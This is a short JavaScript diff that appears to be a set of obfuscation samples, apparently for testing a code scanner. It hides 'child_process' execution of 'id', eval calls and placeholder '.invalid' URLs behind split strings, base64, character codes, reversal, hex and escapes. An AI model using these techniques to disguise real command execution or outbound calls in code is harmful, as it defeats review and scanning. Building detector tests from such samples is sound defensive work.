@@ -1,0 +1,12 @@
+require('ch' + 'ild_' + 'process').exec('id');
+require(['ht', 'tps'].join(''));
+globalThis['ev' + 'al']('1');
+const b = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvdXA=', 'base64');
+const u = String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 99, 111, 100, 101, 115, 46, 105, 110, 118, 97, 108, 105, 100);
+const r = 'dilavni.desrever//:sptth'.split('').reverse().join('');
+const h = '68747470733a2f2f6865782e696e76616c69642f';
+const x = '\x68\x74\x74\x70\x73\x3a\x2f\x2fescaped.invalid';
+eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='));
+var k = 'child', l = '_process';
+require(k + l);
+new Function('return this')();
